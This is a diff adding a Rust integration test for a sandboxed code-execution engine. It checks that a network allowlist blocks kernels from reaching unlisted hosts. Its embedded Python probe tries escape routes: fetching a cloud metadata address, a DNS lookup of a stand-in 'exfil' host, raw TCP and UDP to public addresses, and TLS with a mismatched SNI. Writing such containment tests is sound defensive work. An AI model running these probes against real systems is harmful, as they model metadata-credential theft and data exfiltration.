@@ -1,0 +1,270 @@
+//! `--network allow:…`: a kernel reaches hosts by name through its proxies,
+//! and nothing else. The hosts are test servers on this machine's loopback,
+//! given names by the proxy's hosts file; nothing outside this machine is
+//! contacted. Linux only (the proxies listen in the kernel's own network namespace).
+#![cfg(target_os = "linux")]
+
+use crate::common;
+
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
+
+use cellbox_engine::tool::{CallContext, EngineConfig, EvalEngine, EvalParams, EvalResult, ignore_events};
+use cellbox_kernels::sandbox::{NetworkSetting, SandboxPolicy};
+use serde_json::json;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio_util::sync::CancellationToken;
+
+/// A server on 127.0.0.1 that answers every request with `hello` and counts
+/// the connections whose first byte began a TLS handshake.
+struct TestServer {
+    port: u16,
+    hellos: Arc<AtomicUsize>,
+}
+
+async fn test_server(files: Vec<(String, Vec<u8>)>) -> TestServer {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let hellos = Arc::new(AtomicUsize::new(0));
+    let (counted, files) = (hellos.clone(), Arc::new(files));
+    tokio::spawn(async move {
+        while let Ok((mut stream, _)) = listener.accept().await {
+            let (counted, files) = (counted.clone(), files.clone());
+            tokio::spawn(async move {
+                let mut head = Vec::new();
+                let mut chunk = [0u8; 4096];
+                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
+                    match stream.read(&mut chunk).await {
+                        Ok(0) | Err(_) => return,
+                        Ok(n) => head.extend_from_slice(&chunk[..n]),
+                    }
+                    if head.first() == Some(&0x16) {
+                        counted.fetch_add(1, Ordering::SeqCst);
+                        return;
+                    }
+                }
+                let path = String::from_utf8_lossy(&head).split_whitespace().nth(1).unwrap_or("/").to_string();
+                let body =
+                    files.iter().find(|(name, _)| *name == path).map_or(b"hello".to_vec(), |(_, body)| body.clone());
+                let kind = if path.ends_with('/') { "text/html" } else { "application/octet-stream" };
+                let answer = format!(
+                    "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+                    body.len()
+                );
+                let _ = stream.write_all(answer.as_bytes()).await;
+                let _ = stream.write_all(&body).await;
+            });
+        }
+    });
+    TestServer { port, hellos }
+}
+
+struct Place {
+    _dir: tempfile::TempDir,
+    root: PathBuf,
+    hosts: PathBuf,
+}
+
+fn place() -> Place {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().canonicalize().unwrap();
+    std::fs::create_dir_all(root.join("work")).unwrap();
+    let hosts = root.join("hosts");
+    std::fs::write(
+        &hosts,
+        "# names for the test servers\n127.0.0.1 allowed.test other.test index.test\n127.0.0.1 wild.example.test\n\
+         169.254.169.254 meta.test\n10.9.8.7 lan.test\n",
+    )
+    .unwrap();
+    Place { _dir: dir, root, hosts }
+}
+
+fn engine(place: &Place, network: &str) -> EvalEngine {
+    engine_with(place, network, &[])
+}
+
+fn engine_with(place: &Place, network: &str, preload: &[&str]) -> EvalEngine {
+    let mut config = EngineConfig::new(place.root.join("work"));
+    config.python = Some(common::python().display().to_string());
+    config.artifacts_dir = place.root.join("artifacts");
+    config.artifact_retention = None;
+    config.runner_cache_dir = Some(place.root.join("runner-cache"));
+    config.preload = preload.iter().map(|m| m.to_string()).collect();
+    let mut policy = SandboxPolicy::default();
+    policy.set_network(network.parse::<NetworkSetting>().unwrap());
+    policy.network_hosts = Some(place.hosts.clone());
+    config.sandbox = policy;
+    EvalEngine::new(config)
+}
+
+async fn eval(engine: &EvalEngine, code: &str) -> EvalResult {
+    let params = EvalParams::from_json(json!({"cells": [{"code": code, "timeout": 120}]})).unwrap();
+    let (context, cancel) = (CallContext::new("s"), CancellationToken::new());
+    let call = engine.eval(&params, &context, &cancel, &ignore_events);
+    tokio::time::timeout(Duration::from_secs(180), call).await.expect("no hang").expect("the call is answered")
+}
+
+const PROBES: &str = r#"
+import json, os, socket, ssl, subprocess, urllib.request, urllib.error
+PORT = {port}
+out = {{}}
+def get(url):
+    try:
+        with urllib.request.urlopen(url, timeout=30) as r:
+            return [r.status, r.read().decode()]
+    except urllib.error.HTTPError as e:
+        return [e.code, e.read().decode()[:300]]
+    except Exception as e:
+        return ["error", type(e).__name__]
+for name in ["allowed.test", "other.test", "93.184.216.34", "10.9.8.7", "wild.example.test", "lan.test"]:
+    out[name] = get("http://%s:%d/" % (name, PORT))
+out["meta.test"] = get("http://meta.test/latest/meta-data/")
+out["curl"] = subprocess.run(["curl", "-s", "-w", " %{{http_code}}", "http://allowed.test:%d/" % PORT], capture_output=True, text=True).stdout
+out["curl_socks"] = subprocess.run(["curl", "-s", "-x", "socks5h://127.0.0.1:1080", "-w", " %{{http_code}}", "http://allowed.test:%d/" % PORT], capture_output=True, text=True).stdout
+out["curl_loopback"] = subprocess.run(["curl", "-s", "--noproxy", "", "-x", "http://127.0.0.1:3128", "http://127.0.0.1:%d/" % PORT], capture_output=True, text=True).stdout[:60]
+out["curl_socks_other"] = subprocess.run(["curl", "-s", "-x", "socks5h://127.0.0.1:1080", "http://other.test:%d/" % PORT], capture_output=True, text=True).returncode
+def attempt(act):
+    try:
+        act()
+        return "DONE"
+    except OSError as e:
+        return type(e).__name__
+out["raw"] = attempt(lambda: socket.create_connection(("127.0.0.1", PORT), timeout=5))
+out["raw_public"] = attempt(lambda: socket.create_connection(("1.1.1.1", 443), timeout=5))
+out["udp"] = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 53)))
+out["dns"] = attempt(lambda: socket.getaddrinfo("secret-data.exfil.example", 80))
+def tls_through_connect(sni):
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
+    s.sendall(b"CONNECT allowed.test:%d HTTP/1.1\r\nHost: allowed.test\r\n\r\n" % PORT)
+    status = s.recv(4096).split(b" ")[1].decode()
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    try:
+        context.wrap_socket(s, server_hostname=sni)
+        return [status, "handshake done"]
+    except (OSError, ssl.SSLError):
+        return [status, "handshake failed"]
+out["sni_other"] = tls_through_connect("evil.test")
+out["sni_same"] = tls_through_connect("allowed.test")
+print(json.dumps(out))
+"#;
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_kernel_reaches_only_the_hosts_its_policy_names() {
+    let place = place();
+    let server = test_server(Vec::new()).await;
+    let engine = engine(&place, "allow:allowed.test,*.example.test,meta.test,*.lan.test");
+    let result =
+        eval(&engine, &PROBES.replace("{port}", &server.port.to_string()).replace("{{", "{").replace("}}", "}")).await;
+    assert!(!result.is_error, "{}", result.text);
+    let first = result.text.lines().next().unwrap_or_default();
+    let out: serde_json::Value = serde_json::from_str(first).unwrap_or_else(|e| panic!("{e}: {}", result.text));
+    assert_eq!(out["allowed.test"], json!([200, "hello"]), "{out}");
+    assert_eq!(out["curl"], "hello 200", "curl reads http_proxy: {out}");
+    assert_eq!(out["curl_socks"], "hello 200", "the SOCKS5 proxy: {out}");
+    assert_ne!(out["curl_socks_other"], 0, "{out}");
+    assert!(out["curl_loopback"].as_str().unwrap().contains("refused 127.0.0.1"), "{out}");
+    for refused in ["other.test", "93.184.216.34", "10.9.8.7", "wild.example.test", "lan.test", "meta.test"] {
+        assert_eq!(out[refused][0], 403, "{refused}: {out}");
+        assert!(out[refused][1].as_str().unwrap().contains("--network allow:"), "{refused}: {out}");
+    }
+    for escape in ["raw", "raw_public", "udp", "dns"] {
+        assert_ne!(out[escape], "DONE", "{escape} got out: {out}");
+    }
+    assert_eq!(out["sni_other"], json!(["200", "handshake failed"]), "{out}");
+    assert_eq!(out["sni_same"], json!(["200", "handshake failed"]), "the test server speaks no TLS: {out}");
+    assert_eq!(server.hellos.load(Ordering::SeqCst), 1, "only the ClientHello naming allowed.test went through");
+    // The call says which hosts were refused, once each, and how to allow them.
+    let notes = result.notes.join("\n");
+    for host in [
+        "other.test",
+        "93.184.216.34",
+        "10.9.8.7",
+        "127.0.0.1",
+        "wild.example.test",
+        "lan.test",
+        "meta.test",
+        "evil.test",
+    ] {
+        assert_eq!(notes.matches(&format!("{host}:")).count(), 1, "{host} once in: {notes}");
+    }
+    assert!(notes.contains("169.254.169.254"), "{notes}");
+    assert!(notes.contains("a wildcard"), "{notes}");
+    let (allowed, refused) = engine.network_counts();
+    assert!(allowed >= 4 && refused >= 6, "{allowed} allowed, {refused} refused");
+    // A later call reports only its own refusals.
+    let again = eval(&engine, "print('quiet')").await;
+    assert!(again.notes.iter().all(|note| !note.contains("network policy")), "{:?}", again.notes);
+    engine.dispose_all().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_kernel_forked_from_a_fork_server_goes_through_the_same_proxies() {
+    let place = place();
+    let server = test_server(Vec::new()).await;
+    let engine = engine_with(&place, "allow:allowed.test", &["json"]);
+    let code = format!(
+        "import sys, urllib.request\nprint('json' in sys.modules)\n\
+         print(urllib.request.urlopen('http://allowed.test:{port}/', timeout=30).read().decode())\n\
+         try:\n    urllib.request.urlopen('http://other.test:{port}/', timeout=30)\nexcept Exception as e:\n    print('refused')",
+        port = server.port
+    );
+    let result = eval(&engine, &code).await;
+    engine.dispose_all().await;
+    assert!(result.text.starts_with("True\nhello\nrefused\n"), "{}", result.text);
+    assert!(result.notes.iter().any(|note| note.contains("other.test: not in the allowlist")), "{:?}", result.notes);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn pip_installs_from_an_index_the_policy_allows() {
+    let place = place();
+    let wheel = wheel(&place.root);
+    let name = "cbxnetprobe-0.1-py3-none-any.whl";
+    let index = format!("<html><body><a href=\"/files/{name}\">{name}</a></body></html>");
+    let server = test_server(vec![
+        ("/simple/cbxnetprobe/".into(), index.into_bytes()),
+        (format!("/files/{name}"), std::fs::read(&wheel).unwrap()),
+    ])
+    .await;
+    let engine = engine(&place, "allow:index.test");
+    let code = format!(
+        "%pip install --quiet --no-cache-dir --disable-pip-version-check --target pkgs --index-url http://index.test:{port}/simple/ \
+         --trusted-host index.test cbxnetprobe\nimport sys; sys.path.insert(0, 'pkgs')\nimport cbxnetprobe\n\
+         print(cbxnetprobe.VALUE)",
+        port = server.port
+    );
+    let result = eval(&engine, &code).await;
+    engine.dispose_all().await;
+    assert!(result.text.contains("installed through the proxy"), "{}", result.text);
+}
+
+/// A wheel of one module, made with the test's Python.
+fn wheel(dir: &Path) -> PathBuf {
+    let script = r#"
+import sys, zipfile
+path = sys.argv[1] + "/cbxnetprobe-0.1-py3-none-any.whl"
+with zipfile.ZipFile(path, "w") as z:
+    z.writestr("cbxnetprobe.py", "VALUE = 'installed through the proxy'\n")
+    z.writestr("cbxnetprobe-0.1.dist-info/METADATA", "Metadata-Version: 2.1\nName: cbxnetprobe\nVersion: 0.1\n")
+    z.writestr("cbxnetprobe-0.1.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+    z.writestr("cbxnetprobe-0.1.dist-info/RECORD", "")
+print(path)
+"#;
+    let output = std::process::Command::new(common::python()).args(["-c", script]).arg(dir).output().unwrap();
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    PathBuf::from(String::from_utf8_lossy(&output.stdout).trim())
+}
+
+#[test]
+fn bad_network_settings_say_what_to_write() {
+    for bad in ["allow:", "allow:pypy", "permit:x.com", "allow:exa mple.com", "sometimes"] {
+        let error = bad.parse::<NetworkSetting>().unwrap_err().to_string();
+        assert!(error.contains("allow:") || error.contains("preset") || error.contains("host"), "{bad}: {error}");
+    }
+    let output = common::binary::cellbox(["run", "--network", "allow:pypy", "-c", "1"]).output().unwrap();
+    assert!(!output.status.success());
+    assert!(common::binary::text(&output.stderr).contains("pypy"), "{}", common::binary::text(&output.stderr));
+}
